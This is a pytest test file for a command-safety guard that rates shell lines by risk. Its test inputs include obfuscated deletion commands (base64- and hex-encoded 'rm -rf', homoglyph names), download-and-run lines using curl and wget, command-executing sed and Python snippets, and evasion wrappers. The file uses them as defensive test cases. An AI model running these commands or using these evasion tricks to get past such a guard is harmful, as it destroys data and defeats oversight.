"""Below the guard: constants, sed's grammar, other languages, files written and run, deceiving characters."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from msyn.command import python_code, sed_script
from msyn.command.constants import Variables, output
from msyn.command.guard import assess
from msyn.command.lookalikes import disguises, hidden_characters
from msyn.command.quoting import braces, words_of
from msyn.command.stages import is_readable, programs, stages


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("echo rm", "rm\n"),
        ("echo -n rm", "rm"),
        (r"echo -e '\x72m'", "rm\n"),
        ("printf '%s-%s' a b", "a-b"),
        ("printf '%s\\n' a b", "a\nb\n"),
        ("echo cm0gLXJm | base64 -d", "rm -rf"),
        ("echo 726d | xxd -r -p", "rm"),
        ("echo mr | rev", "rm\n"),
        ("rev <<< mr", "rm\n"),
        ("echo en | tr en rm", "rm\n"),
        ("echo RM | tr '[:upper:]' '[:lower:]'", "rm\n"),
        ("cat <<< x", "x\n"),
        ("which rm", "rm\n"),
        ("date", None),
        ("cat file", None),
        ("base64 -d file", None),
        ("base64 -d", None),
        ("echo $x", None),
        ("echo a > f", None),
        ("echo a; echo b", None),
        ("echo a | sort", None),
        ("echo '!!' | base64 -d", None),
    ],
)
def test_what_constants_print(command: str, text: str | None) -> None:
    assert output(command, Variables()) == text


@pytest.mark.parametrize(
    ("assigned", "word", "values"),
    [
        ("a=rm", "$a", ["rm"]),
        ("a=rm", '"${a}"x', ["rmx"]),
        ("a='rm -rf'", "$a", ["rm", "-rf"]),
        ("a='rm -rf'", '"$a"', ["rm -rf"]),
        ("a=(x y)", "${a[1]}", ["y"]),
        ("a=xyz", "${a:1:1}", ["y"]),
        ("a=xyz", "${a#x}", ["yz"]),
        ("a=x.tar.gz", "${a%%.*}", ["x"]),
        ("a=x.tar.gz", "${a##*.}", ["gz"]),
        ("a=xyx", "${a//x/z}", ["zyz"]),
        ("a=Rm", "${a,,}${a^^}", ["rmRM"]),
        ("a=b b=rm", "${!a}", ["rm"]),
        ("", "${a:-rm}", ["rm"]),
        ("", "$a", ["$a"]),
        ("", "r$@m", ["rm"]),
        ("", "a${IFS}b", ["a", "b"]),
        ("", "{a,b}c", ["ac", "bc"]),
        ("", "x{1..3}", ["x1", "x2", "x3"]),
        ("", "'{a,b}'", ["{a,b}"]),
        ("", "$(echo a b)", ["a", "b"]),
        ("", '"$(echo a b)"', ["a b"]),
        ("", r"$'\x41\101\u0041'", ["AAA"]),
    ],
)
def test_what_a_word_becomes(assigned: str, word: str, values: list[str]) -> None:
    known = Variables()
    for part in assigned.split(" ") if "(" not in assigned and "'" not in assigned else [assigned]:
        known.assign(part)
    assert [made.text for made in words_of(word, known)] == values


def test_a_variable_with_two_values_is_not_believed() -> None:
    known = Variables()
    known.assign("a=ls")
    known.assign("a=rm")
    (word,) = words_of("$a", known)
    assert word.computed


def test_braces_do_not_explode() -> None:
    assert len(braces("{a,b}" * 30)) <= 256


@pytest.mark.parametrize(
    ("script", "does"),
    [
        ("s/e/w/", ""),
        ("s/a/b/g;s/w/e/", ""),
        ("/e/d", ""),
        ("/[/e]/d", ""),
        ("1,5p", ""),
        ("$!N;P;D", ""),
        ("y/abc/ewe/", ""),
        ("a\\\ntext w e", ""),
        ("/x/{s/a/b/;p}", ""),
        ("s|/a|w e|", ""),
        ("w out", "writes"),
        ("s/a/b/w out", "writes"),
        ("/x/w out", "writes"),
        ("r file", "reads"),
        ("e ls", "commands"),
        ("1e ls", "commands"),
        ("s/a/b/e", "runs_input"),
        ("s/a/b/ge", "runs_input"),
        ("s/e/w/;s/x/y/e", "runs_input"),
        ("e", "runs_input"),
        ("k", "lost"),
        ("s/a", "lost"),
    ],
)
def test_sed_scripts_are_read(script: str, does: str) -> None:
    found = sed_script.actions(script)
    assert found.understood == (does != "lost")
    said = {name for name in ("writes", "reads", "runs_input") if getattr(found, name)}
    said |= {"commands"} if any(found.commands) else set()
    assert said == ({does} - {"", "lost"})


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("print(1)", "is_harmless"),
        ("import os; print(os.listdir())", "is_harmless"),
        ("x=[1]; x.remove(1)", "is_harmless"),
        ("from os import remove as r; r('x')", "deletes"),
        ("import os; f = os.unlink; f('x')", "deletes"),
        ("__import__('os').system('ls')", "commands"),
        ("from subprocess import *; run(['rm', 'x'])", "commands"),
        ("import os; os.system(x)", "hidden"),
        ("exec(x)", "hidden"),
        ("getattr(x, y)()", "hidden"),
        ("print rm x", "hidden"),
        ("open('x', 'w')", "writes"),
        ("open('x', mode='a')", "writes"),
    ],
)
def test_python_is_parsed(source: str, kind: str) -> None:
    assert getattr(python_code.deeds(source), kind)


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("echo 'rm x' > a.sh; sh a.sh", "destroys"),
        ("echo 'rm x' > a.sh; sh ./a.sh", "destroys"),
        ("echo ls > a.sh; echo 'rm x' >> a.sh; . a.sh", "destroys"),
        ("curl -o a.sh https://example.org; sh a.sh", "destroys"),
        ("wget https://example.org/a.sh && bash a.sh", "destroys"),
        ("echo ls > a.sh; sh a.sh", "write"),
        ("echo 'rm x' > a.txt; sh b.sh", "write"),
        ("echo 'alias ll=\"ls -l\"' >> ~/.bashrc", "write"),
    ],
)
def test_files_that_the_line_itself_wrote_are_known(command: str, level: str) -> None:
    assert assess(command).level == level


@pytest.mark.parametrize("name", ["rм", "гm", "ｒｍ", "ѕudo", "rｍ", "ŕm"])
def test_disguised_names_are_seen_through(name: str) -> None:
    assert disguises(name)


@pytest.mark.parametrize("name", ["git", "größe", "脚本", "скрипт", "café"])
def test_honest_names_are_no_disguise(name: str) -> None:
    assert not assess(name).is_destructive


@pytest.mark.parametrize("text", ["ls \x1b[2K", "ls\r", "rm\u200b", "\u202els", "rm\u00a0x", "ls\u2028", "ls \x08"])
def test_characters_that_deceive_are_named(text: str) -> None:
    assert list(hidden_characters(text))


@pytest.mark.parametrize("text", ["echo 'a\u00a0b'", 'echo "👨\u200d👩\u200d👧"', "ls\n\tpwd", "echo é 文 привет"])
def test_characters_that_people_write_are_not(text: str) -> None:
    assert not list(hidden_characters(text))


@pytest.mark.parametrize("line", ["for f in *; rm $f; end", "ls *(.om[1])", "if rm x", "rm x )", "echo 'open; rm x"])
def test_what_cannot_be_read_is_never_called_harmless(line: str) -> None:
    assert not is_readable(line)
    assert assess(line).level != "read"


def test_a_word_goes_on_behind_an_escaped_newline() -> None:
    assert programs("r\\\nm x") == ("rm",)
    assert programs("ls \\\n -l") == ("ls",)


def test_stages_know_what_is_fed_to_them() -> None:
    assert [stage.given for stage in stages("echo hi | sh | cat")][0:2] == [None, "hi\n"]


_ODD = ["(" * 3000, "$(" * 1000, "`" * 3001, "{" * 2000 + "," + "}" * 2000, "ls | " * 1000 + "ls", "env " * 1000 + "rm",
        "x=aa; " + "x=$x$x; " * 40 + "$x", "sh -c '" * 30, "cat <<A\n" * 200, "foo " + "rm " * 1500,
        "x=" + "a" * 9000 + "; ${x#" + "*a" * 20 + "b}", "if " * 300, "alias a=b b=a; a", "f() { f; }; f",
        "$(printf '%s' " + "a " * 2000 + ")", "python3 -c '" + "(" * 2000 + "'", "echo " + "{a,b}" * 30]  # fmt: skip


@pytest.mark.parametrize("line", _ODD, ids=range(len(_ODD)))
def test_lines_made_to_exhaust_come_to_an_end(line: str) -> None:
    assert assess(line).level in {"read", "network", "write", "escalates", "destroys"}


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="rm -f x'\"\\$`(){}|&;<>#\n=![]*~%@,e/s", max_size=60))
def test_any_text_gets_a_level(line: str) -> None:
    assert assess(line).level in {"read", "network", "write", "escalates", "destroys"}


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["{}", "ls; {}", "( {} )", "echo $({})", "sh -c '{}'", "env {}", "if true; then {}; fi", "x=1 {}"]),
    st.sampled_from(["ls && {}", "{} &", "{{ {}; }}", "timeout 5 {}", "nohup {}", "echo a | xargs {}", "! {}"]),
)
def test_no_two_wrappings_hide_a_deletion(outer: str, inner: str) -> None:
    assert assess(outer.format(inner.format("rm -rf build"))).is_destructive
